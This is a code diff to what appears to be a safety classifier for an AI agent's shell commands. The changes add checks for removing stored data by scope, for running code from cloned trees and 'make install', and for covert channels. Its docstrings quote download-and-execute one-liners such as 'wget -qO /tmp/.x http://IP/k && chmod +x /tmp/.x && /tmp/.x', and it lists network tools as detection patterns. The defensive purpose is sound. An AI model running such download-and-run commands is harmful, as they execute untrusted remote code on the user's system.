@@ -28,6 +28,7 @@ from typing import Any
 
 from dongle.assessment import Assessment, worst
 from dongle.classify import settings_text
+from dongle.classify.cloned_trees import cloned_tree, well_known
 from dongle.classify.cmdlets import (
     cmdlet_effect,
     cmdlet_name,
@@ -58,6 +59,7 @@ from dongle.classify.startup_variables import (
     sets_only_tuning,
 )
 from dongle.classify.statement_request import statement_sent
+from dongle.classify.store_scope import STORE_COMPANIONS, STORE_REMOVALS, store_scope
 from dongle.classify.switched_off import IN_PLACE_EDITORS, switched_off
 from dongle.classify.verdict import assess
 from dongle.disk_text import small_text
@@ -101,7 +103,7 @@ from dongle.rules.windows import (
     windows_removal,
     windows_system_removal,
 )
-from dongle.shell.context import NETWORK_SOURCES, SHELLS, looks_dynamic
+from dongle.shell.context import COVERT_CHANNELS, NETWORK_SOURCES, SHELLS, looks_dynamic
 from dongle.shell.effects import (
     COMMAND_VARIABLES,
     GIT_COMMAND_KEYS,
@@ -324,7 +326,7 @@ def _assess_model(
     empty_cd = unset_cd.group(1) if unset_cd and unset_cd.group(1).strip("${}") not in env else ""
     quoted = _CD_QUOTED_VARIABLE.search(model.source) if "cd" in names else None
     quoted_cd = quoted.group(1) if quoted and quoted.group(1).strip("${}") not in env else ""
-    untrusted = any(f.name in _FETCHERS and _untrusted_fetch(f) for f in all_facts)
+    untrusted = any(_untrusted_source(f) for f in all_facts)
     switched = False  # an earlier part selected a production workspace, context or project
     printed: set[int] = set()  # the parts a rule says print a secret (by the id of their facts)
 
@@ -844,6 +846,9 @@ def _in_context(judged: Assessment, facts: Facts, inv: Invocation, index: int,
         # directory is a sandbox in scratch: nothing real is created or destroyed
         judged = Assessment(DangerLevel.REVERSIBLE, 20, factors=(*judged.factors, sandbox),
                             rules=judged.rules, kind="command", subject=subject)
+    if STORE_REMOVALS.intersection(judged.rules) and set(judged.rules) <= _STORE_RULES and (
+            _removes_stored_data(facts, judged)):
+        judged = _scoped_store(judged, facts, elsewhere_production, subject)
     setting = _plain_setting_appended(inv) if set(judged.rules) == {"fs.write-credentials"} else ""
     if setting:
         # `echo 'engine-strict=true' >> .npmrc`: appended, the tokens the file holds stay; the setting
@@ -872,6 +877,41 @@ def _in_context(judged: Assessment, facts: Facts, inv: Invocation, index: int,
         judged = assess(DangerLevel.FORBIDDEN, kind="command", subject=subject, irreversible=True,
                         factors=(*judged.factors, why), rules=(*judged.rules, "cred.public-secrets"),
                         safer_alternative="keep it private; move the credentials out first")
+    return judged
+
+
+_STORE_RULES = STORE_REMOVALS | STORE_COMPANIONS
+
+
+def _removes_stored_data(facts: Facts, judged: Assessment) -> bool:
+    """The part removes stored data: a store rule's act, not a SQL statement (a whole SQL database keeps
+    its own judgement) and, for an act named to a program no rule covers, a destroying one."""
+    if facts.sql_text:
+        return False
+    if "sys.act-named" in judged.rules:
+        # a subcommand that removes (`fs rm`, `firestore:delete`), not an option of another act
+        # (`mongorestore --drop` overwrites with a dump)
+        word = _act_named(facts).lower()
+        return not word.startswith("-") and bool(
+            {p for p in re.split(r"[_:\-=]+", word) if p} & (_DESTROYING | {"rm", "remove"}))
+    return True
+
+
+def _scoped_store(judged: Assessment, facts: Facts, elsewhere_production: bool, subject: str) -> Assessment:
+    """A store removal as its target's name and place make it (`dongle.classify.store_scope`): the
+    agent's own scratch, test or local store goes; production, backups, the warehouse or a shared
+    drive stops."""
+    scope = store_scope(facts, judged.rules)
+    if scope is None:
+        return judged
+    kind, why = scope
+    if kind == "kept" and judged.danger_level < DangerLevel.FORBIDDEN:
+        return assess(DangerLevel.FORBIDDEN, kind="command", subject=subject, irreversible=True,
+                      factors=(*judged.factors, why), rules=judged.rules,
+                      safer_alternative=judged.safer_alternative, recovery=judged.recovery)
+    if kind == "own" and not (facts.production or elsewhere_production):
+        return Assessment(DangerLevel.REVERSIBLE, 20, factors=(*judged.factors, why), rules=judged.rules,
+                          kind="command", subject=subject)
     return judged
 
 
@@ -1114,7 +1154,8 @@ _SETTINGS_FILE_RULES = frozenset({"fs.write-credentials", "fs.write-shell-startu
 # to a part whose rules are (some of) these.
 _READ_IN_CONTEXT = frozenset({
     *PRINTS_SECRET, "k8s.scale-zero", *_CLUSTER_RULES, *_PAYMENT_SDK_RULES, "net.capture-payloads",
-    "cred.decrypt-secrets", *_STACK_RULES, *_SETTINGS_FILE_RULES, *_AUTHORIZED_KEYS_RULES, *_EXPOSING_RULES})
+    "cred.decrypt-secrets", *_STACK_RULES, *_SETTINGS_FILE_RULES, *_AUTHORIZED_KEYS_RULES, *_EXPOSING_RULES,
+    *_STORE_RULES})
 
 
 def _plain_settings_written(facts: Facts) -> bool:
@@ -3096,8 +3137,7 @@ def _publishes_any(facts: Facts, tainted: set[str]) -> bool:
 
 
 # Programs that send their arguments to another host: a URL, a name to resolve, an address to reach.
-_ARGUMENT_SENDERS = NETWORK_SOURCES | {"dig", "nslookup", "host", "drill", "ping", "ping6", "traceroute",
-                                       "whois", "mail", "sendmail", "mutt"}
+_ARGUMENT_SENDERS = NETWORK_SOURCES | {"ping", "ping6", "traceroute", "whois", "mail", "sendmail", "mutt"}
 
 
 def _reads_secret(facts: Facts) -> bool:
@@ -5068,17 +5108,28 @@ def _script_arguments(facts: Facts) -> tuple[str, ...]:
 
 # Programs that download to a file (`curl -o`, `wget -O`): its content is the network's, unseen.
 _DOWNLOADERS = frozenset({"curl", "wget", "aria2c", "fetch", "http", "https", "xh", "lwp-download"})
-# The programs `_cross_checks` judges by name: tee (what it writes), git config, npm/pnpm/yarn pkg set,
-# crontab, redis-cli fed commands, downloads, database clients fed a script, warehouse clients,
+# The programs `_cross_checks` judges by name: tee (what it writes), git config and clones, npm/pnpm/yarn
+# pkg set, crontab, redis-cli fed commands, downloads, database clients fed a script, warehouse clients,
 # ansible and salt payloads.
-_CROSS_CHECKED = frozenset({"tee", "git", "npm", "pnpm", "yarn", "go", "pip", "pip3", "crontab", "incrontab",
-                            "systemd-tmpfiles", "redis-cli", "bq", "cqlsh", "expect", "puppet",
+_CROSS_CHECKED = frozenset({"tee", "git", "gh", "npm", "pnpm", "yarn", "go", "pip", "pip3", "crontab",
+                            "incrontab", "systemd-tmpfiles", "redis-cli", "bq", "cqlsh", "expect", "puppet",
                             "ansible", "ansible-playbook", "salt", "salt-ssh", *_DOWNLOADERS,
                             *_SCRIPT_CLIENTS, *_WAREHOUSE_SQL_OPTIONS})
 
 
 def _record_download(facts: Facts, fetched: dict[str, tuple[bool, str]]) -> None:
-    """The files a downloader fills (its output options, or its standard output redirected)."""
+    """The files a downloader fills (its output options, or its standard output redirected), and the
+    tree a clone fills (as `DIR/`: a script later run from under it is downloaded code too)."""
+    if facts.name in ("git", "gh"):
+        tree = cloned_tree((facts.name, *facts.inv.args))
+        if tree is not None and not well_known(tree[1]) and len(fetched) < 256:
+            directory = facts.path(tree[0]).path
+            host = _git_host(tree[1])
+            untrusted = untrusted_host(host) or (tree[1].startswith(("http://", "git://"))
+                                                 and not is_local_host(host))
+            if directory:
+                fetched[directory.rstrip("/") + "/"] = (untrusted, tree[1])
+        return
     if facts.name not in _DOWNLOADERS:
         return
     url = next((a for a in facts.inv.args if "://" in a), "")
@@ -5125,6 +5176,10 @@ def _record_unseen_write(source: str, targets: Sequence[PathInfo], fetched: dict
             fetched[target.path] = (False, _GENERATED + source)
 
 
+# Build tools that run the recipes of the directory they are in.
+_TREE_BUILDERS = frozenset({"make", "gmake"})
+
+
 def _downloaded_then_run(facts: Facts, fetched: Mapping[str, tuple[bool, str]], subject: str
                          ) -> Assessment | None:
     """`wget -qO /tmp/.x http://IP/k && chmod +x /tmp/.x && /tmp/.x`, `curl -o i.sh URL; sh i.sh`:
@@ -5137,9 +5192,14 @@ def _downloaded_then_run(facts: Facts, fetched: Mapping[str, tuple[bool, str]], 
     family = interpreter_family(facts.name)
     if script is None and family in _INLINE_FLAG and facts.parsed.positionals:
         script = classify_path(facts.parsed.positionals[0], facts.cwd, facts.home, facts.env).path
-    if script not in fetched:
+    if script is None and facts.name in _TREE_BUILDERS and facts.cwd and "install" in facts.inv.args:
+        # `make install` runs the tree's recipes and puts what they build on the system: a stranger's
+        # installer run (a test target stays judged as any build)
+        script = facts.cwd.rstrip("/") + "/Makefile"
+    tree = next((d for d in fetched if d.endswith("/") and script and script.startswith(d)), None)
+    if script not in fetched and tree is None:
         return None
-    untrusted, url = fetched[script]
+    untrusted, url = fetched[tree or script]
     if url.startswith(_GENERATED):
         return _later_code_unknown(
             f"runs {script}, which this line writes from the output of `{url[len(_GENERATED):]}`, known only "
@@ -5407,6 +5467,16 @@ def _relabel(inner: Assessment, rule_id: str, prefix: str, subject: str) -> Asse
 
 
 # --- unresolved parts ----------------------------------------------------------------------------
+
+
+def _untrusted_source(facts: Facts) -> bool:
+    """Where code that this line runs unread may come from, a source nobody vouches for: a download
+    from an untrusted host, or a covert channel (a DNS record, a bare socket) whatever its host."""
+    if facts.name in _FETCHERS:
+        return _untrusted_fetch(facts)
+    if facts.name == "openssl":
+        return "s_client" in facts.inv.args
+    return facts.name in COVERT_CHANNELS
 
 
 def _untrusted_fetch(facts: Facts) -> bool:
